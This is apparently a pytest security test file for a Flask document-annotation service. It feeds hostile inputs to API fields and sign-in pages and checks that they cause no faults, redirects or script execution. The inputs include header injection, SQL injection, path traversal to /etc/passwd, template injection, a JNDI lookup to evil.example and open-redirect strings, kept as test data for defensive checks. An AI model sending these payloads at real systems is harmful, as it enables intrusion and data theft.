"""Hostile values of headers, cursors, metadata, webhooks and sign-ins are refused or are data: none is a fault, none runs."""

from __future__ import annotations

import base64
import io
import ipaddress
import json
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit

from flask import Flask
from flask.testing import FlaskClient
from playwright.sync_api import Browser, Page

from highlighter.embedding.embedder import Embedder
from highlighter.sign_in.people import MAX_NAME_CHARACTERS
from tests.attacks.script_watch import ScriptWatch, count_shown
from tests.attacks.vectors import VECTORS, WRITTEN, group_vectors
from tests.conftest import NOTE
from tests.highlighter.web.auth.clients import running_app, running_server

PROXY = "127.0.0.1"
USER_HEADER, GROUPS_HEADER = "X-Forwarded-User", "X-Forwarded-Groups"
# Beside markup: what ends lines, statements, paths, templates or parsers.
MALFORMED = [
    "", " ", "\0", "a\0b", "\r\nSet-Cookie: a=b", "\x1b[2J", "é", "\ud800", "\u202e", "\ufeff", "x" * 20_000, "' OR 1=1 --", "%", "%00", "%s%n",
    "../../../../etc/passwd", "{{7*7}}", "${jndi:ldap://evil.example/x}", "__proto__", "[" * 20_000, '{"a":' * 20_000, "1e999", "NaN",
    "-1", "9" * 400, "null", "[[]]", '{"$gt": ""}', "*", "😀" * 300,
]  # fmt: skip
SIGN_IN_PARAMETERS = ("next", "state", "code", "error", "error_description", "iss", "session_state")
UNLIMITED = dict.fromkeys(("rate_read", "rate_ingest", "rate_link", "rate_answer"), "1000000/second")


def send_hostile_values(client: FlaskClient, document_id: str, values: Iterable[str]) -> Iterator[str]:
    """Send each value wherever the API takes one, and yield what is answered with a fault or with a header of the value's own."""
    for value in values:
        for name, response in _send_everywhere(client, document_id, value):
            with response:
                is_split = "\n" in str(response.headers).replace("\r\n", "") or "Set-Cookie" in response.headers
                if response.status_code >= 500 or is_split:
                    yield f"{name}: {response.status_code} for {value[:60]!r}"


def _send_everywhere(client: FlaskClient, document_id: str, value: str) -> Iterator[tuple[str, object]]:
    raw = value.encode("utf-8", "surrogatepass").decode("latin-1")  # as a server hands headers over
    note = {"target": {"selector": {"type": "TextQuoteSelector", "exact": NOTE[:20]}}, "body": "x"}
    document, notes = f"/api/v1/documents/{document_id}", f"/api/v1/documents/{document_id}/notes"
    yield "key", client.post(notes, json=note, environ_overrides={"HTTP_IDEMPOTENCY_KEY": raw})
    encoded = [base64.urlsafe_b64encode(json.dumps(position).encode()).decode() for position in ([value], [value] * 5)]
    for cursor in (value, *encoded):
        query = urlencode({"cursor": cursor}, errors="surrogatepass")
        for path in ("/api/v1/documents", "/api/v1/notes", "/api/v1/answers", f"{document}/find?q=the", f"{notes}"):
            yield f"cursor of {path}", client.get(f"{path}{'&' if '?' in path else '?'}{query}")
    for metadata in (value, json.dumps({value[:200]: value}), json.dumps({"tags": [value], "doc_url": value})):
        upload = {
            "file": (io.BytesIO(b""), "x.txt"),
            "metadata": metadata.encode("utf-8", "surrogatepass").decode("latin-1"),
        }
        yield "upload", client.post("/api/v1/documents", data=upload)
    yield (
        "metadata",
        client.patch(document, **_as_json({"metadata": {value[:200]: value, "doc_url": value, "tags": [value]}})),
    )
    for fields in ({"url": value}, {"url": f"https://{value}/"}, {"url": f"https://hooks.example/{value}"},
                   {"url": "https://hooks.example/", "description": value}, {"url": "https://hooks.example/", "events": [value]},
                   {"url": "https://hooks.example/", "collections": [value]}):  # fmt: skip
        yield "webhook", client.post("/api/v1/webhooks", **_as_json(fields))
    yield "id of a webhook", client.get("/api/v1/webhooks/" + urlencode({"": value}, errors="surrogatepass")[1:])


def _as_json(body: dict[str, Any]) -> dict[str, Any]:
    """Return the options by which a test client sends JSON, also with lone surrogates."""
    return {"data": json.dumps(body), "content_type": "application/json"}


@contextmanager
def signing_in_app(folder: Path, embedder: Embedder, **sign_in: object) -> Iterator[Flask]:
    """Yield an application at which people sign in: at a provider that does not answer, or at a proxy."""
    folder.mkdir(exist_ok=True)
    (folder / "rules.toml").write_text('[groups.readers]\nscopes = ["read"]\ncollections = "*"\n', encoding="utf-8")
    with running_app(folder, embedder, ocr=False, access_rules=folder / "rules.toml", **UNLIMITED, **sign_in) as app:
        yield app


@contextmanager
def provider_app(folder: Path, embedder: Embedder) -> Iterator[Flask]:
    with signing_in_app(folder, embedder, oidc_issuer="http://127.0.0.1:9", oidc_client_id="library") as app:
        yield app


@contextmanager
def proxy_app(folder: Path, embedder: Embedder) -> Iterator[Flask]:
    headers = {"auth_user_header": USER_HEADER, "auth_groups_header": GROUPS_HEADER}
    with signing_in_app(folder, embedder, trusted_proxies=(ipaddress.ip_network(PROXY),), **headers) as app:
        yield app


def visit_sign_in_pages(page: Page, watch: ScriptWatch, texts: Iterable[str]) -> None:
    """Hand each text to the pages of sign-in wherever an address can."""
    for text in texts:
        query = urlencode(dict.fromkeys(SIGN_IN_PARAMETERS, text))
        for path in ("/sign-in", "/sign-in/callback", "/signed-out", "/use-key"):
            watch.visit(page, f"{watch.home}{path}?{query}")


def visit_as_people(page: Page, watch: ScriptWatch, names: Iterable[str]) -> list[str]:
    """Visit pages as people with these names and groups, and return the names that are not shown as they are."""
    missing = []
    for name in names:
        page.set_extra_http_headers({USER_HEADER: name, GROUPS_HEADER: f"readers, {name}"})
        shown = watch.visit(page, f"{watch.home}/sign-in") + watch.visit(page, f"{watch.home}/documents")
        missing += [] if count_shown([name], shown) else [name]
        page.set_extra_http_headers({USER_HEADER: name, GROUPS_HEADER: name})  # a group without rights
        watch.visit(page, f"{watch.home}/documents")
    return missing


def list_person_names() -> list[str]:
    """Return the vectors as names that a proxy can send: a comma would part two people."""
    sent = [vector for vector in VECTORS if vector.isascii() and vector.isprintable() and "," not in vector]
    return group_vectors(MAX_NAME_CHARACTERS, [vector for vector in sent if len(vector) <= MAX_NAME_CHARACTERS])


@contextmanager
def watching(app: Flask, browser: Browser) -> Iterator[tuple[Page, ScriptWatch]]:
    """Yield a page of a browser that visits an application, and what ran or could run there."""
    with running_server(app) as home:
        watch, context = ScriptWatch(home=home), browser.new_context()
        yield watch.watch(context), watch
        context.close()


def test_hostile_values_are_no_fault_of_the_api(client, note):
    assert list(send_hostile_values(client, note.id, [*MALFORMED, *WRITTEN[::60]])) == []


def test_sign_in_refuses_hostile_values(tmp_path, embedder):
    with provider_app(tmp_path, embedder) as app:
        client = app.test_client()
        for value in (*MALFORMED[:-1], "//evil.example", "/\\evil.example"):
            query = urlencode(dict.fromkeys(SIGN_IN_PARAMETERS, value[:3_000]), errors="surrogatepass")
            for path, statuses in (
                ("/sign-in", {200}),
                ("/sign-in/start", {503}),
                ("/sign-in/callback", {400}),
                ("/use-key", {303, 401}),
            ):
                client.set_cookie("highlighter_sign_in_attempt", value[:2_000].encode("ascii", "replace").decode())
                client.set_cookie("highlighter_sign_in", value[:2_000].encode("ascii", "replace").decode())
                answer = client.get(f"{path}?{query}")
                assert answer.status_code in statuses, (path, value[:60], answer.status_code)
                target = urlsplit(answer.headers.get("Location", ""))
                assert (target.scheme, target.netloc) == ("", ""), (path, value[:60])


def test_parameters_of_sign_in_are_no_markup(tmp_path, embedder, browser):
    with provider_app(tmp_path, embedder) as app, watching(app, browser) as (page, watch):
        visit_sign_in_pages(page, watch, group_vectors(1_900)[::2])
    assert watch.visits > 10
    assert (watch.executed, watch.found) == ([], [])


def test_names_and_groups_of_people_are_no_markup(tmp_path, embedder, browser):
    with proxy_app(tmp_path, embedder) as app, watching(app, browser) as (page, watch):
        assert visit_as_people(page, watch, list_person_names()[::8]) == []
    assert watch.visits > 10
    assert (watch.executed, watch.found) == ([], [])
